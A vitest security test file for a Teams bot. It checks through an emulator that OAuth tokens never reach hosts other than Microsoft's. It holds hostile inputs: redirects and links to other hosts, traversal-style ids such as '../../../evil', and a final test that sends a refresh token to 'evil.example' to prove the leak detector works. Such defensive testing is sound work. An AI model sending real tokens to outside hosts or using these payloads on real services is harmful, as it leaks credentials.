import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
import { signInUrl } from '../../emulator/channel/actions.ts'
import type { Chat } from '../../emulator/channel/chat.ts'
import type { Fault } from '../../emulator/faults.ts'
import { alex, megan, type Person } from '../../emulator/people.ts'
import { en } from '../../src/text/en.ts'
import { NOTHING_KEPT, readable, signInWith, startWorld, type World } from '../world.ts'
import { crowd } from './crowd.ts'
import { BESIDE, ELSEWHERE, HOSTS } from './elsewhere.ts'
import { recorder, type Recorder } from './recorder.ts'

/** `TEST_FULL=1`: every address at every place. */
const FULL = process.env['TEST_FULL'] !== undefined

const everybody = crowd(20)
const strangers = everybody.filter(({ name }) => name.startsWith('Somebody'))
/** The people who are connected by the second group of tests. */
const askers = [megan, ...strangers.slice(0, 4)]

let record: Recorder
let world: World
let chat: Chat
let secrets: string[]

beforeAll(async () => {
  record = await recorder()
  world = await startWorld(NOTHING_KEPT, { people: everybody })
  chat = world.emulator.channel.personal(megan)
  const { MicrosoftAppPassword = '', OAUTH_CLIENT_SECRET = '' } = world.emulator.settings(world.publicUrl)
  secrets = [MicrosoftAppPassword, OAUTH_CLIENT_SECRET]
})
afterAll(async () => {
  await world.close()
  await record.stop()
})

afterEach(() => {
  world.emulator.faults.clear()
  expect(abroad()).toEqual([])
  expect(astray()).toEqual([])
  record.clear()
})

const here = (address: string): string => {
  const { host, port } = new URL(world.emulator.origin)
  return address.replaceAll('{host}', host).replaceAll('{port}', port)
}

/** The targets of connections to other servers than the emulator and the bot. */
function abroad(): string[] {
  const { port, host } = new URL(world.publicUrl)
  const known = [new URL(world.emulator.origin).host, host, `127.0.0.1:${port}`]
  return record.connections.map(({ to }) => to).filter((to) => !known.includes(to))
}

/** The requests that contain a token or secret of the emulator, but were not sent to Microsoft's endpoint for it. */
function astray(): string[] {
  const answers = record.answered.join('')
  const issued = (name: string) =>
    [...answers.matchAll(new RegExp(`"${name}":"([^"]+)"`, 'g'))].map(([, token = '']) => token)
  const { host } = new URL(world.emulator.origin)
  // A person's token is opaque; the bot's own token is a JWT.
  const places: [string[], RegExp][] = [
    [issued('access_token').filter((token) => !token.includes('.')), /^\/v1\.0\//],
    [issued('access_token').filter((token) => token.includes('.')), /^\/teams\/v3\//],
    [[...issued('refresh_token'), ...secrets], /^\/[0-9a-f-]{36}\/oauth2\/v2\.0\/token$/],
  ]
  return record.requests().flatMap(({ to, path, text }) => {
    const isRight = (place: RegExp) => to === host && place.test(path)
    const isWrong = places.some(([values, place]) => !isRight(place) && values.some((value) => text.includes(value)))
    return isWrong ? [`${to} ${path}`] : []
  })
}

let turns = 0
const next = (among: readonly Person[]): Person => among[(turns += 1) % among.length] ?? megan

/** Asks as a connected person. @returns the bot's last message, without waiting for more */
async function answer(text: string, to = next(askers)): Promise<string> {
  const of = world.emulator.channel.personal(to)
  await of.send(text)
  return readable(of.messages.findLast(({ from }) => from === 'bot'))
}

/** Signs in. @returns the last page, without waiting for the message in the chat */
async function signIn(person = next(strangers)): Promise<string> {
  const of = world.emulator.channel.personal(person)
  await of.send('connect')
  const card = of.messages.findLast((message) => signInUrl(message) !== undefined)
  return (await signInWith(card, person)).text
}

/** Every fourth address in the short run. Each address is tried at one place in any case. */
const some = (addresses: readonly string[]) => addresses.filter((_, n) => FULL || n % 4 === 0)

/** Gives each address to the bot, and checks its answer. */
async function each(addresses: readonly string[], visit: (address: string) => Promise<string>, says: string) {
  for (const address of addresses) {
    const said = await visit(here(address))
    expect([address, said]).toEqual([address, expect.stringContaining(says)])
  }
}

describe('before anybody is connected', () => {
  test('S52 tokens only to their host: discovery names another Graph host', async () => {
    const visit = async (host: string) => {
      world.emulator.entra.setMsgraphHost(host)
      return signIn()
    }
    await each(HOSTS, visit, en.signInFailed.no_graph)
    world.emulator.entra.setMsgraphHost(new URL(world.emulator.origin).host)
  })

  test('S52 tokens only to their host: discovery names an endpoint at another host', async () => {
    const visit = async (address: string) => {
      const name = ['token_endpoint', 'jwks_uri', 'authorization_endpoint'][visits++ % 3] ?? ''
      world.emulator.faults.add({ match: 'discovery', times: 1, merge: { [name]: address } })
      return signIn()
    }
    let visits = 0
    await each(ELSEWHERE, visit, en.signInFailed.untrusted)
  })

  test('S52 tokens only to their host: discovery redirects to another host', async () => {
    for (const fault of redirects('discovery')) {
      world.emulator.faults.add(fault)
      expect(await signIn()).toContain(en.signInFailed.unavailable)
    }
  })
})

describe('once people are connected', () => {
  beforeAll(async () => {
    for (const person of askers) expect(await signIn(person)).toContain(en.page.connected.title)
    for (const person of askers) await world.emulator.channel.personal(person).settled()
    for (const { oid } of askers) world.emulator.graph.mailbox(oid).add({ displayName: 'Somebody Else' })
    // Without a fault, no contact is missing.
    expect(await answer('find contact Alice', megan)).toContain('Alice Admin')
    expect(await answer('find contact Else')).not.toContain(en.unread.list)
  })

  // The rest of the mailbox is still read. If changes fail, the folder is listed instead.
  test.each([
    ['folders', /^GET \/v1.0\/me\/contactFolders\?/, true, en.unread.list],
    ['changes', /^GET \/v1.0\/me\/contactFolders\/[^/]+\/contacts\/delta\?/, true, 'Somebody Else'],
    ['contacts', /^GET \/v1.0\/me\/contactFolders\/[^/]+\/contacts\?/, false, en.unread.folder('Contacts')],
  ])('S52 tokens only to their host: the next page of %s is at another host', async (list, match, available, says) => {
    world.emulator.graph.setDelta({ available })
    const visit = async (link: string) => {
      world.emulator.faults.add({ match, times: 1, merge: { '@odata.nextLink': link, '@odata.deltaLink': link } })
      const said = await answer('find contact Else')
      expect(said).toContain('Somebody Else')
      return said
    }
    const all = [...ELSEWHERE, ...BESIDE]
    const before = world.emulator.faults.struck()
    const addresses = list === 'changes' ? all : some(all)
    await each(addresses, visit, says)
    expect(world.emulator.faults.struck() - before).toBe(addresses.length)
    world.emulator.graph.setDelta({ available: true })
  })

  test('S52 tokens only to their host: Graph redirects to another host', async () => {
    for (const { times: _, ...everyTime } of redirects('graph')) {
      world.emulator.faults.add(everyTime)
      expect(await answer('find contact Else')).toContain(en.trouble.contacts_down)
      world.emulator.faults.clear()
    }
  })

  test('S52 tokens only to their host: the token endpoint redirects a refresh to another host', async () => {
    for (const fault of redirects('token')) {
      world.emulator.entra.expireAccessTokens()
      world.emulator.faults.add(fault)
      expect(await answer('find contact Alice')).toContain(en.trouble.microsoft_sign_in_down)
    }
  })

  test('S52 tokens only to their host: the token endpoint redirects a code, and the bot’s own request, to another host', async () => {
    const code = redirects('token')[3]
    if (!code) throw new Error('No fault')
    world.emulator.faults.add(code)
    expect(await signIn(alex)).toContain(en.signInFailed.unavailable)
    await world.emulator.channel.personal(alex).settled()
    for (const fault of redirects('token')) {
      // The bot gets a new token of its own when the channel refuses the old one.
      world.emulator.faults.add({ match: 'channel', times: 1, status: 401 })
      world.emulator.faults.add(fault)
      expect((await chat.send('help')).status).toBe(502)
    }
  })

  test('S52 tokens only to their host: the channel redirects to another host', async () => {
    for (const fault of redirects('channel')) {
      world.emulator.faults.add(fault)
      expect((await chat.send('help')).status).toBe(502)
    }
  })

  test('S52 tokens only to their host: an activity and its token name another host as serviceUrl', async () => {
    for (const address of [...ELSEWHERE.filter((address) => !isLoopback(address)), '', 'evil.example', 'http:evil']) {
      const serviceurl = here(address)
      const authorization = `Bearer ${await world.emulator.channel.sign({ serviceurl })}`
      const activity = chat.compose('help', { serviceUrl: serviceurl })
      const { status } = await chat.sendRaw(activity, { authorization })
      expect([serviceurl, status]).toEqual([serviceurl, expect.toBeOneOf([400, 403])])
    }
  })

  test('S52 tokens only to their host: a conversation and a message have an address as their id', async () => {
    for (const id of [
      '//evil.example',
      '../../../evil',
      '@evil.example',
      'http://evil.example/',
      '\\\\evil.example',
      '?x#y',
    ]) {
      const activity = chat.compose('help')
      const conversation = { ...(activity['conversation'] as object), id }
      await chat.redeliver(activity, { conversation, replyToId: id, value: { command: 'help' } })
    }
    expect(record.requests().some(({ path }) => path.startsWith('/teams/v3/conversations/..%2F'))).toBe(true)
  })
})

/** Redirects to these addresses, with each redirect status. */
function redirects(match: 'graph' | 'token' | 'discovery' | 'channel'): Fault[] {
  const locations = some([...ELSEWHERE, ...BESIDE].filter((address) => /^[\x21-\x7e]+$/.test(address))).map(here)
  const statuses = [301, 302, 303, 307, 308]
  return locations.map((location, n) => ({ match, times: 1, status: statuses[n % 5] ?? 307, headers: { location } }))
}

/** With the emulator as channel, the bot may answer to any port of this machine over http. */
const isLoopback = (address: string) =>
  /^http:\/\/(?:127\.0\.0\.1|localhost|\[::1\])[:/]/i.test(address) && URL.canParse(here(address))

test('S52 tokens only to their host: the recorder notices a token at another host', async () => {
  const [, token = ''] = /"refresh_token":"([^"]+)"/.exec(record.answered.join('')) ?? []
  const headers = { authorization: `Bearer ${token}` }
  await fetch('http://evil.example/a', { headers })
  await fetch(`${world.emulator.origin}/b`, { headers })
  await expect(fetch('https://evil.example/c', { headers })).rejects.toThrow('fetch failed')
  expect(abroad()).toEqual(['evil.example:80', 'evil.example:443'])
  expect(astray()).toEqual(['evil.example:80 /a', `${new URL(world.emulator.origin).host} /b`])
  record.clear()
})
